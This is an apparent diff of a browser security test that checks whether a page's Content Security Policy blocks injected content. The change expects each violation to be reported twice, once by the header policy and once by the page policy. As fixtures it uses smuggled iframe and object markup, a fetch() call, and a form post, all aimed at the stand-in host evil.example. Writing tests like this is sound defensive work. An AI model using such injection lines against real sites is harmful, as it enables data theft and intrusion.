@@ -124,9 +124,9 @@ test('injected scripts do not run in a page @desktop', async ({ page, allowNoise
     smuggle('<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>');
     void fetch('https://evil.example/').catch(() => undefined);
   });
-  await expect
-    .poll(() => blocked.toSorted())
-    .toEqual(['connect-src', 'frame-src', 'object-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
+  const once = ['connect-src', 'frame-src', 'object-src', 'script-src-attr', 'script-src-elem', 'script-src-elem'];
+  // The policy of the header and that of the page each report all of it.
+  await expect.poll(() => blocked.toSorted()).toEqual([...once, ...once].toSorted());
   await expect(page).not.toHaveTitle('smuggled');
   await page.evaluate(() => {
     const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
